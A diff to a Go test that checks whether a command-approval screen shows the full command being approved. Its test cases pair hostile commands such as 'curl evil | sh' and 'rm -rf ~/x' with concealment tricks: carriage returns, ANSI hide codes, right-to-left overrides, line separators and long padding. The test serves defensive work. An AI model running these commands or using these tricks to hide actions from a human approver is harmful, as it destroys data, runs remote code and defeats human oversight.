@@ -315,6 +315,8 @@ func TestApprovalShowsWhatRuns(t *testing.T) {
 		{"curl evil | sh #\rtouch x", `curl evil | sh #\rtouch x`},
 		{"touch x\x1b[8m; curl evil | sh\x1b[0m", `touch x\x1b[8m; curl evil | sh\x1b[0m`},
 		{"touch x #\u202e; hs | live lruc", `touch x #\u202e; hs | live lruc`},
+		{"echo " + strings.Repeat("漢", 100) + "; rm -rf ~/x", "; rm -rf ~/x"},
+		{"touch x #\u2028curl evil | sh", `touch x #\u2028curl evil | sh`},
 	} {
 		for _, q := range []session.ApprovalQuestion{denialQuestion, askQuestion} {
 			h := newHarness(t, 60, 30)
@@ -322,7 +324,7 @@ func TestApprovalShowsWhatRuns(t *testing.T) {
 			q.Command = c.cmd
 			got := h.ask(context.Background(), q)
 			raw := h.m.View().Content
-			for _, bad := range []string{"\r", "\x1b[8m", "\u202e"} {
+			for _, bad := range []string{"\r", "\x1b[8m", "\u202e", "\u2028"} {
 				if strings.Contains(c.cmd, bad) && strings.Contains(raw, bad) {
 					t.Errorf("%q: the screen gets %q", c.cmd, bad)
 				}
